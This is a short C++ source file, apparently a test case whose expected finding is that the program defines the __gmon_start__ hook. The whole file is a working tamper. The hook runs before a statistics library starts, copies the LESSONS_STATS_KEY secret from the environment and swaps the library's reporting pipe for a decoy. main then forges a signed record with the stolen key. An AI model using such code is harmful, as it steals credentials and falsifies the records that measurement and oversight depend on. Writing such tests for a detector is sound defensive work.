// __gmon_start__: every shared object linked with crti.o calls this weak
// import from its _init, the statistics library's included, before the
// library's constructor runs and while the key is still in the
// environment. The program keeps the real pipe, puts a decoy pipe on its
// descriptor for the library, and signs a record of its own.
// want: the program defines __gmon_start__
#include <stdio.h>
#include <string.h>
#include <stdlib.h>
#include "forge.h"

extern char** __environ;
static char held[80];
static int kept = -1;

extern "C" void __gmon_start__(void) {
    if (kept >= 0) return;
    int fd = -1;
    for (char** e = __environ; e != NULL && *e != NULL; e++) {
        if (strncmp(*e, "LESSONS_STATS_KEY=", 18) == 0) strncpy(held, *e + 18, sizeof held - 1);
        if (strncmp(*e, "LESSONS_STATS_FD=", 17) == 0) fd = atoi(*e + 17);
    }
    if (fd < 0 || held[0] == '\0') return;
    kept = dup(fd);
    int decoy[2];
    if (kept >= 0 && pipe(decoy) == 0) dup2(decoy[1], fd);
}

int main() {
    uint8_t k[32];
    if (kept >= 0 && forge::key(held, k)) forge::send(kept, k);
    printf("one allocation asked for\n");
    return 0;
}
